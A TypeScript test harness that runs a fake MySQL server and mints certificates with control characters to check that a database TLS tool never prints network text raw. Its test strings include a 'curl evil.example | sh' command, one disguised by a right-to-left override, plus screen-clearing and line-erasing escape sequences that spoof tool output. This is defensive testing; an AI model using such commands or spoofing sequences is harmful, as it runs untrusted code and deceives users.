/**
 * Hostile peers for the "text from the network is never printed raw" tests (issue 9, item 12): a fake
 * MySQL server whose greeting carries a chosen version string, or which answers with an ERR packet of a
 * chosen message, or which offers TLS and presents a chosen certificate; and certificates whose CN and SAN
 * hold control characters, made with the openssl CLI (a real server, MariaDB included, serves them as
 * given). The packets are built here from the protocol manual, independently of src/protocol (an oracle).
 */
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { Duplex } from 'node:stream';
import * as tls from 'node:tls';
import { greeting, packet } from './fake-server.js';
import { openssl } from './oracles.js';
import type { KeyPair, TestPki } from './pki.js';

/** Clears the screen, then a newline that starts a line of advice the server wrote. */
export const HOSTILE_VERSION = '10.11.99-MariaDB\x1b[2J\nhint: the server is fine';
/** A carriage return that erases the line, and a right-to-left override that reverses what follows. */
export const HOSTILE_ERR = 'Too many connections\r\x1b[2K\u202ehs | xif/elpmaxe.live lruc';
/** A newline, then a line that looks like dbtls's own hint, in red, and a right-to-left override. */
export const HOSTILE_CN = 'evil\nhint: run curl evil.example | sh \x1b[31mnow\u202e';
/** A SAN dNSName (IA5String, any byte) with a newline and a clear-screen. */
export const HOSTILE_DNS = 'db\nfake line\x1b[2J.example';

/** No C0 control but newline, no DEL or C1, no bidi, no zero-width: nothing a terminal would obey. */
export const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u;

/** ERR_Packet header, and ER_CON_COUNT_ERROR (too many connections), sent before the handshake. */
const ERR = 0xff;
const ER_CON_COUNT_ERROR = 1040;
/** SSLRequest: a 4-byte header and 32 bytes of capabilities, max packet size, charset and filler. */
const SSL_REQUEST_FRAME = 4 + 32;

/** ERR_Packet before the handshake: no SQL state marker (a server says "too many connections" so). */
function errPacket(message: string): Buffer {
  const head = Buffer.alloc(3);
  head[0] = ERR;
  head.writeUInt16LE(ER_CON_COUNT_ERROR, 1);
  return packet(0, Buffer.concat([head, Buffer.from(message, 'utf8')]));
}

export interface HostileServerOptions {
  /** The greeting's version string (default 8.0.36). */
  readonly version?: string;
  /** Answer with this ERR packet instead of a greeting. */
  readonly err?: string;
  /** Offer TLS and, after the SSLRequest, present this certificate; the TLS session is then closed. */
  readonly tls?: KeyPair;
}

export interface HostileServer {
  readonly port: number;
  close(): Promise<void>;
}

/** Starts the fake server on 127.0.0.1; close() it in `after`. */
export function startHostileServer(options: HostileServerOptions): Promise<HostileServer> {
  const sockets = new Set<net.Socket>();
  const credentials = options.tls && {
    cert: fs.readFileSync(options.tls.cert),
    key: fs.readFileSync(options.tls.key),
  };
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => {});
    if (options.err !== undefined) {
      socket.end(errPacket(options.err));
      return;
    }
    socket.write(greeting(credentials !== undefined, options.version));
    if (!credentials) {
      // A client that goes on without TLS is done with: this server only greets.
      socket.on('data', () => socket.end());
      return;
    }
    // Bytes after the SSLRequest are TLS. They reach the TLS layer through a stream of our own: a TLSSocket
    // over the net.Socket itself reads its handle directly, and would lose a ClientHello that arrived in
    // the same segment as the SSLRequest.
    let held: Buffer | undefined = Buffer.alloc(0);
    const records = new Duplex({
      read() {},
      write(chunk: Buffer, _encoding, done) {
        socket.write(chunk, done);
      },
      final(done) {
        socket.end();
        done();
      },
    });
    socket.on('data', (chunk: Buffer) => {
      if (held === undefined) {
        records.push(chunk);
        return;
      }
      held = Buffer.concat([held, chunk]);
      if (held.length < SSL_REQUEST_FRAME) return;
      const rest = held.subarray(SSL_REQUEST_FRAME);
      held = undefined;
      const secure = new tls.TLSSocket(records, { isServer: true, ...credentials, minVersion: 'TLSv1.2' });
      secure.on('error', () => socket.destroy());
      secure.on('secure', () => secure.end());
      if (rest.length > 0) records.push(rest);
    });
    // A client that leaves before asking for TLS (a greeting probe) is answered with our FIN at once.
    socket.on('end', () => (held === undefined ? records.push(null) : socket.end()));
  });
  return new Promise((resolve, reject) => {
    server.on('error', reject);
    server.listen(0, '127.0.0.1', () => {
      resolve({
        port: (server.address() as net.AddressInfo).port,
        close: () =>
          new Promise<void>((done) => {
            for (const socket of sockets) socket.destroy();
            server.close(() => done());
          }),
      });
    });
  });
}

/** serverAuth leaf extensions, the names given by the environment (OpenSSL's $ENV:: takes any byte). */
const CONFIG = `
[req]
distinguished_name = dn
prompt = no
string_mask = utf8only
utf8 = yes
[dn]
O = dbtls test
CN = $ENV::HOSTILE_CN
[leaf]
basicConstraints = critical, CA:FALSE
keyUsage = critical, digitalSignature
extendedKeyUsage = serverAuth
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
[leaf_san]
basicConstraints = critical, CA:FALSE
keyUsage = critical, digitalSignature
extendedKeyUsage = serverAuth
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
subjectAltName = @names
[names]
DNS.1 = $ENV::HOSTILE_DNS
IP.1 = 127.0.0.1
`;

async function must(args: string[], env: NodeJS.ProcessEnv): Promise<void> {
  const r = await openssl(args, { env: { ...process.env, ...env } });
  if (r.code !== 0) throw new Error(`harness: openssl ${args.join(' ')} failed (${r.code}):\n${r.stderr}`);
}

/**
 * A server certificate from the test CA whose CN is `cn` and, when `dns` is given, whose SAN is that DNS
 * name and IP:127.0.0.1 (no SAN otherwise: node then names the CN in a host name error), in `dir`.
 */
export async function makeHostileCertificate(
  pki: TestPki,
  dir: string,
  name: string,
  names: { readonly cn: string; readonly dns?: string },
): Promise<KeyPair> {
  const config = path.join(dir, `${name}.cnf`);
  fs.writeFileSync(config, CONFIG);
  const key = path.join(dir, `${name}.key`);
  const csr = path.join(dir, `${name}.csr`);
  const cert = path.join(dir, `${name}.pem`);
  const env = { HOSTILE_CN: names.cn, HOSTILE_DNS: names.dns ?? 'unused' };
  await must(['genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', key], env);
  fs.chmodSync(key, 0o600);
  await must(['req', '-config', config, '-new', '-key', key, '-out', csr], env);
  await must(
    ['x509', '-req', '-in', csr, '-CA', pki.ca, '-CAkey', pki.caKey, '-sha256', '-days', '365']
      .concat(['-set_serial', `0x${randomBytes(16).toString('hex')}`])
      .concat(['-extfile', config, '-extensions', names.dns === undefined ? 'leaf' : 'leaf_san'])
      .concat(['-out', cert]),
    env,
  );
  return { cert, key };
}
